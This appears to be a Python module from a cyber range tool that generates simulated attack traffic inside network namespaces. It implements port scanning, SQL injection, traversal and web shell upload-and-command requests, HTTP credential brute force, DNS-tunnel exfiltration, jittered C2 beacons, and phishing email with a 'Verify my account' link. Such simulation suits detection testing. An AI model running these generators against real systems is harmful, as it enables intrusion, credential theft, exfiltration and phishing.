"""Session-level generators: ordinary TCP/UDP sockets opened inside the node's namespace.

The whole generator runs in a worker thread switched into the namespace, so
every socket it opens (http.client's, smtplib's, its own) belongs to the node:
packets carry the node's address and follow its routes. TCP generators count
what actually left the interface with a packet tap (:class:`WireCounter`);
UDP generators count their datagrams exactly.
"""

from __future__ import annotations

import base64
import contextlib
import errno
import hashlib
import http.client
import ipaddress
import os
import random
import secrets
import selectors
import smtplib
import socket
import struct
import time
import urllib.parse
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.utils import formataddr, formatdate, make_msgid
from typing import Any

from rangectl.netns import _route_get_here, run_in_netns
from rangectl.scenario.traffic_params import (
    BeaconParams,
    BruteforceParams,
    DnsExfilParams,
    HttpParams,
    PhishingParams,
    PortscanParams,
)
from rangectl.traffic.base import (
    Budget,
    TrafficContext,
    TrafficError,
    TrafficResult,
    WireCounter,
    target_of,
    utcnow,
)

ETH_IP_UDP = 14 + 20 + 8  # frame bytes around a UDP payload (no IP options)


@dataclass
class Session:
    """What a session generator's body gets: addresses, the tap, and a place for its tallies."""

    ctx: TrafficContext
    dst: ipaddress.IPv4Address
    src: ipaddress.IPv4Address
    iface: str
    app_bytes: int = 0
    exact_packets: int = 0
    exact_bytes: int = 0
    details: dict[str, Any] = field(default_factory=dict)

    @property
    def source_address(self) -> tuple[str, int] | None:
        return (str(self.ctx.src_ip), 0) if self.ctx.src_ip else None

    def tcp(self, port: int, timeout: float) -> socket.socket:
        return socket.create_connection((str(self.dst), port), timeout=timeout, source_address=self.source_address)

    def udp(self, port: int) -> socket.socket:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_CLOEXEC)
        if self.ctx.src_ip:
            s.bind((str(self.ctx.src_ip), 0))
        s.connect((str(self.dst), port))
        return s


def _run_session(
    kind: str, ctx: TrafficContext, body: Callable[[Session], str], *, tap: bool = True
) -> TrafficResult:
    """Run ``body`` in the namespace with a tap on the outgoing interface; build the result record."""
    dst = target_of(ctx, kind)

    def here() -> TrafficResult:
        route = _route_get_here(str(dst))
        if route.type == "local":
            raise TrafficError(f"{dst} is the sending node's own address")
        if route.type != "unicast" or not route.ifname:
            raise TrafficError(f"no route to {dst} from the source node (route type {route.type})")
        iface = ctx.src_iface or route.ifname
        src = ctx.src_ip or route.prefsrc
        if src is None:
            raise TrafficError(f"no source address for {dst} on {iface}")
        sess = Session(ctx, dst, src, iface)
        counter = None
        if tap:
            try:
                counter = WireCounter(iface, [dst]).start()
            except OSError:
                counter = None
        started = utcnow()
        try:
            stopped = body(sess)
        finally:
            ended = utcnow()
            if counter is not None:
                counter.stop()
        if not tap:
            packets, nbytes, counted = sess.exact_packets, sess.exact_bytes, "exact"
        elif counter is not None:
            packets, nbytes, counted = counter.packets, counter.bytes, "wire"
        else:
            packets, nbytes, counted = 0, sess.app_bytes, "estimate"
        return TrafficResult(
            kind=kind,
            src_ip=str(src),
            dst_ip=str(dst),
            started=started,
            ended=ended,
            packets_sent=packets,
            bytes_sent=nbytes,
            stopped=stopped,
            counted=counted,
            src_iface=iface,
            details=sess.details,
        )

    return run_in_netns(ctx.netns_path, here)


# --- connect scan ----------------------------------------------------------------------


def run_portscan_connect(p: PortscanParams, ctx: TrafficContext) -> TrafficResult:
    ports = p.port_list
    if p.randomize:
        random.shuffle(ports)

    def body(s: Session) -> str:
        budget = Budget(ctx, count=len(ports), duration=p.duration, rate=None)
        sel = selectors.DefaultSelector()
        inflight: dict[socket.socket, tuple[int, float]] = {}
        state: dict[int, str] = {}
        queue = list(ports)
        launched = 0
        t0 = time.monotonic()
        stopped = "done"

        def finish(sock: socket.socket, port: int, result: str) -> None:
            state[port] = result
            with contextlib.suppress(Exception):
                sel.unregister(sock)
            sock.close()
            inflight.pop(sock, None)

        try:
            while queue or inflight:
                if queue and budget.expired():
                    stopped = budget.reason
                    queue.clear()
                now = time.monotonic()
                allowed = int((now - t0) * p.rate) + 1 - launched
                while queue and allowed > 0 and len(inflight) < p.concurrency:
                    port = queue.pop(0)
                    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_CLOEXEC)
                    sock.setblocking(False)
                    if s.source_address:
                        sock.bind(s.source_address)
                    rc = sock.connect_ex((str(s.dst), port))
                    launched += 1
                    allowed -= 1
                    if rc in (0, errno.EINPROGRESS):
                        inflight[sock] = (port, now)
                        sel.register(sock, selectors.EVENT_WRITE)
                    else:
                        state[port] = "closed" if rc == errno.ECONNREFUSED else "filtered"
                        sock.close()
                wait = 0.01 if queue else 0.05
                for key, _ev in sel.select(timeout=wait) if inflight else []:
                    sock = key.fileobj  # type: ignore[assignment]
                    port, _ = inflight[sock]  # type: ignore[index]
                    err = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)  # type: ignore[union-attr]
                    finish(sock, port, "open" if err == 0 else "closed" if err == errno.ECONNREFUSED else "filtered")  # type: ignore[arg-type]
                now = time.monotonic()
                for sock, (port, t) in list(inflight.items()):
                    if now - t >= p.timeout or (not queue and budget.expired()):
                        finish(sock, port, "filtered")
                if not inflight and not queue:
                    break
                if not inflight:
                    time.sleep(0.002)
        finally:
            for sock in list(inflight):
                sock.close()
            sel.close()
        open_ports = sorted(pt for pt, st in state.items() if st == "open")
        closed = sum(1 for st in state.values() if st == "closed")
        s.details.update(
            {
                "method": "connect",
                "ports_probed": len(state),
                "open": open_ports,
                "closed": closed,
                "filtered": len(state) - len(open_ports) - closed,
                "connects": launched,
            }
        )
        return stopped

    return _run_session("portscan", ctx, body)


# --- HTTP -------------------------------------------------------------------------------


def _http_request(
    s: Session,
    port: int,
    host: str,
    method: str,
    path: str,
    *,
    body: bytes | None = None,
    content_type: str | None = None,
    headers: dict[str, str] | None = None,
    user_agent: str,
    timeout: float,
) -> dict[str, Any]:
    rec: dict[str, Any] = {"method": method, "path": path, "status": None}
    conn = http.client.HTTPConnection(str(s.dst), port, timeout=timeout, source_address=s.source_address)
    t = time.monotonic()
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", host if port == 80 else f"{host}:{port}")
        conn.putheader("User-Agent", user_agent)
        conn.putheader("Accept", "*/*")
        conn.putheader("Connection", "close")
        for k, v in (headers or {}).items():
            conn.putheader(k, v)
        if body is not None:
            conn.putheader("Content-Type", content_type or "application/x-www-form-urlencoded")
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        s.app_bytes += len(path) + (len(body) if body else 0) + 200
        resp = conn.getresponse()
        data = resp.read(1 << 20)
        rec["status"] = resp.status
        rec["bytes"] = len(data)
        rec["_body"] = data
    except (OSError, http.client.HTTPException, ValueError) as exc:
        rec["error"] = f"{type(exc).__name__}: {exc}"
    finally:
        conn.close()
        rec["ms"] = round((time.monotonic() - t) * 1000, 1)
    return rec


def _multipart(field_name: str, filename: str, content: bytes, ctype: str) -> tuple[bytes, str]:
    boundary = "----WebKitFormBoundary" + secrets.token_hex(8)
    body = (
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field_name}\"; filename=\"{filename}\"\r\n"
        f"Content-Type: {ctype}\r\n\r\n"
    ).encode() + content + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def run_http(p: HttpParams, ctx: TrafficContext) -> TrafficResult:
    def plan() -> list[tuple[str, str, str, bytes | None, str | None, dict[str, str]]]:
        out: list[tuple[str, str, str, bytes | None, str | None, dict[str, str]]] = []
        for group in p.attacks:
            if group == "sqli":
                for payload in p.sqli_payloads:
                    q = urllib.parse.urlencode({p.lookup_param: payload})
                    out.append(("sqli", "GET", f"{p.lookup_path}?{q}", None, None, {}))
            elif group == "traversal":
                for path in p.traversal_paths:
                    out.append(("traversal", "GET", path if path.startswith("/") else "/" + path, None, None, {}))
            elif group == "webshell":
                body, ctype = _multipart(p.upload_field, p.shell_name, p.shell_body.encode(), "application/x-php")
                out.append(("webshell", "POST", p.upload_path, body, ctype, {}))
                if p.shell_url:
                    url = p.shell_url.replace("{name}", urllib.parse.quote(p.shell_name))
                    for cmd in p.shell_commands:
                        sep = "&" if "?" in url else "?"
                        out.append(("webshell", "GET", f"{url}{sep}cmd={urllib.parse.quote(cmd)}", None, None, {}))
        for r in p.requests:
            body = r.body.encode() if r.body is not None else None
            out.append(("custom", r.method, r.path, body, r.content_type, dict(r.headers)))
        return out[: p.max_requests]

    todo = plan()

    def body(s: Session) -> str:
        budget = Budget(ctx, count=len(todo), duration=p.duration, rate=p.rate)
        host = p.host or str(s.dst)
        records = []
        for attack, method, path, data, ctype, hdrs in todo:
            if not budget.wait_next():
                break
            rec = _http_request(
                s, p.port, host, method, path, body=data, content_type=ctype, headers=hdrs,
                user_agent=p.user_agent, timeout=min(p.timeout, max(budget.remaining(), 0.1)),
            )  # fmt: skip
            rec.pop("_body", None)
            rec["attack"] = attack
            records.append(rec)
        statuses = Counter(str(r["status"]) if r["status"] is not None else "error" for r in records)
        s.details.update(
            {
                "port": p.port,
                "requests": records,
                "requests_sent": len(records),
                "statuses": dict(statuses),
                "by_attack": dict(Counter(r["attack"] for r in records)),
            }
        )
        return "done" if len(records) == len(todo) else budget.reason

    return _run_session("http", ctx, body)


# --- brute force ----------------------------------------------------------------------------


def _credentials(p: BruteforceParams) -> list[tuple[str, str]]:
    pairs = [(u, pw) for u in p.usernames for pw in p.passwords]
    return pairs[: p.attempts]


def run_bruteforce(p: BruteforceParams, ctx: TrafficContext) -> TrafficResult:
    port = p.port or (80 if p.service == "http" else 22)
    creds = _credentials(p) if p.service == "http" else [(p.usernames[0], "")] * p.attempts

    def http_body(s: Session) -> str:
        budget = Budget(ctx, count=len(creds), duration=p.duration, rate=p.rate)
        host = str(s.dst)
        statuses: Counter[str] = Counter()
        successes = []
        attempts = 0
        stopped = "done"
        for user, pw in creds:
            if not budget.wait_next():
                stopped = budget.reason
                break
            form = urllib.parse.urlencode({p.user_field: user, p.pass_field: pw}).encode()
            rec = _http_request(
                s, port, host, "POST", p.path, body=form, user_agent=p.user_agent,
                timeout=min(p.timeout, max(budget.remaining(), 0.1)),
            )  # fmt: skip
            attempts += 1
            st = rec["status"]
            statuses[str(st) if st is not None else "error"] += 1
            text = rec.get("_body", b"")
            ok = st in p.success_status and not (p.failure_text and p.failure_text.encode() in text)
            if ok:
                successes.append({"username": user, "password": pw, "status": st, "attempt": attempts})
                if p.stop_on_success:
                    stopped = "success"
                    break
        s.details.update(
            {
                "service": "http",
                "port": port,
                "path": p.path,
                "attempts": attempts,
                "statuses": dict(statuses),
                "successes": successes,
                "usernames": sorted({u for u, _ in creds[:attempts]}),
            }
        )
        return stopped

    def ssh_body(s: Session) -> str:
        budget = Budget(ctx, count=p.attempts, duration=p.duration, rate=p.rate)
        banners: Counter[str] = Counter()
        connected = refused = failed = 0
        attempts = 0
        while budget.wait_next():
            attempts += 1
            try:
                sock = s.tcp(port, min(p.timeout, max(budget.remaining(), 0.1)))
            except ConnectionRefusedError:
                refused += 1
                continue
            except OSError:
                failed += 1
                continue
            connected += 1
            try:
                sock.settimeout(min(p.timeout, 3.0))
                banner = b""
                with contextlib.suppress(OSError):
                    while b"\n" not in banner and len(banner) < 255:
                        chunk = sock.recv(255 - len(banner))
                        if not chunk:
                            break
                        banner += chunk
                line = banner.split(b"\n", 1)[0].strip().decode("ascii", "replace")
                if line:
                    banners[line] += 1
                sock.sendall(p.ssh_client_id.encode() + b"\r\n")
                s.app_bytes += len(p.ssh_client_id) + 2
                with contextlib.suppress(OSError):
                    sock.settimeout(0.5)
                    sock.recv(4096)  # the server's KEXINIT; we stop here, as a failed login does
            except OSError:
                pass
            finally:
                sock.close()
        s.details.update(
            {
                "service": "ssh",
                "port": port,
                "attempts": attempts,
                "connected": connected,
                "refused": refused,
                "failed": failed,
                "banners": dict(banners),
                "note": "no SSH library here: each attempt is a connection with a banner exchange, no password is tried",
            }
        )
        return "done" if attempts >= p.attempts else budget.reason

    return _run_session("bruteforce", ctx, http_body if p.service == "http" else ssh_body)


# --- DNS exfiltration -------------------------------------------------------------------------

QTYPES = {"A": 1, "NS": 2, "CNAME": 5, "MX": 15, "TXT": 16, "AAAA": 28, "NULL": 10}


def dns_query(qid: int, name: str, qtype: int) -> bytes:
    """A recursion-desired DNS query for ``name``."""
    q = b"".join(bytes([len(lbl)]) + lbl.encode("ascii") for lbl in name.rstrip(".").split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)


def exfil_names(data: bytes, domain: str, label_length: int) -> list[str]:
    """``<chunk>.<seq>.<domain>`` for each base32 chunk of ``data`` (lower case, no padding)."""
    b32 = base64.b32encode(data).decode().rstrip("=").lower()
    chunks = [b32[i : i + label_length] for i in range(0, len(b32), label_length)] or [""]
    return [f"{c}.{i}.{domain}" for i, c in enumerate(chunks)]


def run_dns_exfil(p: DnsExfilParams, ctx: TrafficContext) -> TrafficResult:
    data = p.data.encode() if p.data is not None else os.urandom(p.random_bytes)
    names = exfil_names(data, p.domain, p.label_length)
    qtype = QTYPES[p.qtype]

    def body(s: Session) -> str:
        budget = Budget(ctx, count=min(len(names), p.max_queries), duration=p.duration, rate=p.rate)
        sock = s.udp(p.port)
        sock.setblocking(False)
        ids: dict[int, int] = {}
        rcodes: Counter[str] = Counter()
        answered: set[int] = set()

        def drain() -> None:
            while True:
                try:
                    resp = sock.recv(4096)
                except (BlockingIOError, InterruptedError):
                    return
                except OSError:
                    rcodes["icmp-error"] += 1
                    return
                if len(resp) < 12:
                    continue
                rid = struct.unpack_from("!H", resp, 0)[0]
                if rid in ids and rid not in answered:
                    answered.add(rid)
                    rcodes[_RCODES.get(resp[3] & 0x0F, str(resp[3] & 0x0F))] += 1

        sent = 0
        try:
            for seq, name in enumerate(names[: p.max_queries]):
                if not budget.wait_next():
                    break
                qid = random.getrandbits(16)
                while qid in ids:
                    qid = random.getrandbits(16)
                msg = dns_query(qid, name, qtype)
                try:
                    sock.send(msg)
                except OSError as exc:
                    if exc.errno == errno.ECONNREFUSED:  # an earlier ICMP port unreachable
                        rcodes["icmp-error"] += 1
                        sock.send(msg)
                    else:
                        raise
                ids[qid] = seq
                sent += 1
                s.exact_packets += 1
                s.exact_bytes += ETH_IP_UDP + len(msg)
                drain()
            end = time.monotonic() + min(p.wait, budget.remaining() + p.wait)
            while time.monotonic() < end and len(answered) < sent:
                drain()
                time.sleep(0.01)
            drain()
        finally:
            sock.close()
        s.details.update(
            {
                "resolver_port": p.port,
                "domain": p.domain,
                "qtype": p.qtype,
                "queries_sent": sent,
                "chunks_total": len(names),
                "answered": len(answered),
                "rcodes": dict(rcodes),
                "data_bytes": len(data),
                "data_sha256": hashlib.sha256(data).hexdigest(),
                "data_sent_complete": sent == len(names),
                "first_name": names[0] if sent else None,
                "last_name": names[sent - 1] if sent else None,
            }
        )
        if sent == len(names):
            return "done"
        if sent >= p.max_queries:
            return "count"
        return budget.reason

    return _run_session("dns-exfil", ctx, body, tap=False)


_RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


# --- beacon ---------------------------------------------------------------------------------


def run_beacon(p: BeaconParams, ctx: TrafficContext) -> TrafficResult:
    port = p.port or (80 if p.protocol == "http" else 4444)
    beacon_id = p.beacon_id or secrets.token_hex(6)
    rnd = random.Random()

    def body(s: Session) -> str:
        budget = Budget(ctx, count=p.count, duration=p.duration, rate=None)
        checkins = []
        t0 = time.monotonic()
        udp = s.udp(port) if p.protocol == "udp" else None
        stopped = "count"
        try:
            for seq in range(p.count):
                if seq:
                    gap = p.interval * (1 + rnd.uniform(-p.jitter, p.jitter))
                    if not budget.sleep(gap):
                        stopped = budget.reason
                        break
                elif budget.expired():
                    stopped = budget.reason
                    break
                blob = base64.urlsafe_b64encode(os.urandom(p.payload_bytes)).decode().rstrip("=")
                at = round(time.monotonic() - t0, 3)
                if p.protocol == "http":
                    path = f"{p.path}?{urllib.parse.urlencode({'id': beacon_id, 'seq': seq, 'd': blob})}"
                    rec = _http_request(
                        s, port, str(s.dst), "GET", path, headers={"Cookie": f"SESSIONID={beacon_id}"},
                        user_agent=p.user_agent, timeout=min(p.timeout, max(budget.remaining(), 0.1)),
                    )  # fmt: skip
                    rec.pop("_body", None)
                    checkins.append({"seq": seq, "t": at, "status": rec["status"], **({"error": rec["error"]} if "error" in rec else {})})
                else:
                    assert udp is not None
                    msg = f"{beacon_id}|{seq}|{int(time.time())}|{blob}".encode()
                    try:
                        udp.send(msg)
                        err = None
                    except OSError as exc:
                        err = exc.strerror
                        with contextlib.suppress(OSError):
                            udp.send(msg)
                    s.exact_packets += 1
                    s.exact_bytes += ETH_IP_UDP + len(msg)
                    reply = None
                    udp.settimeout(min(0.2, p.interval / 2))
                    with contextlib.suppress(OSError):
                        reply = len(udp.recv(2048))
                    checkins.append({"seq": seq, "t": at, "reply_bytes": reply, **({"error": err} if err else {})})
        finally:
            if udp is not None:
                udp.close()
        gaps = [round(b["t"] - a["t"], 3) for a, b in zip(checkins, checkins[1:], strict=False)]
        s.details.update(
            {
                "protocol": p.protocol,
                "port": port,
                "beacon_id": beacon_id,
                "checkins": checkins,
                "checkins_sent": len(checkins),
                "interval": p.interval,
                "jitter": p.jitter,
                "gaps": gaps,
            }
        )
        return "count" if len(checkins) >= p.count else stopped

    return _run_session("beacon", ctx, body, tap=(p.protocol == "http"))


# --- phishing ------------------------------------------------------------------------------------


def phishing_message(p: PhishingParams, to: list[str], n: int) -> EmailMessage:
    msg = EmailMessage()
    domain = p.sender.split("@", 1)[1]
    msg["From"] = formataddr((p.display_name, p.sender))
    msg["To"] = ", ".join(to)
    msg["Subject"] = p.subject if p.count == 1 else f"{p.subject} [{n + 1}]"
    msg["Date"] = formatdate(localtime=False)
    msg["Message-ID"] = make_msgid(domain=domain)
    msg["X-Mailer"] = "Microsoft Outlook 16.0"
    text = p.body.replace("{link}", p.link)
    msg.set_content(text)
    if p.html:
        esc = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        esc = esc.replace(p.link, f'<a href="{p.link}">Verify my account</a>')
        msg.add_alternative("<html><body><p>" + esc.replace("\n\n", "</p><p>").replace("\n", "<br>") + "</p></body></html>", subtype="html")
    return msg


def run_phishing(p: PhishingParams, ctx: TrafficContext) -> TrafficResult:
    def body(s: Session) -> str:
        budget = Budget(ctx, count=p.count, duration=p.duration, rate=p.rate)
        sent = []
        stopped = "count"
        while budget.wait_next():
            msg = phishing_message(p, p.to, len(sent))
            rec: dict[str, Any] = {"message_id": msg["Message-ID"], "subject": msg["Subject"]}
            try:
                with smtplib.SMTP(
                    str(s.dst), p.port, local_hostname=p.helo, timeout=min(p.timeout, max(budget.remaining(), 0.5)),
                    source_address=s.source_address,
                ) as smtp:  # fmt: skip
                    refused = smtp.sendmail(p.sender, p.to, msg.as_bytes())
                    rec["accepted"] = [r for r in p.to if r not in refused]
                    rec["refused"] = {r: f"{c} {m.decode(errors='replace')}" for r, (c, m) in refused.items()}
                s.app_bytes += len(msg.as_bytes())
            except (OSError, smtplib.SMTPException) as exc:
                rec["error"] = f"{type(exc).__name__}: {exc}"
            sent.append(rec)
        if len(sent) < p.count:
            stopped = budget.reason
        s.details.update(
            {
                "port": p.port,
                "sender": p.sender,
                "to": p.to,
                "link": p.link,
                "messages": sent,
                "messages_sent": len(sent),
                "delivered": sum(1 for m in sent if m.get("accepted")),
            }
        )
        return stopped

    return _run_session("phishing", ctx, body)
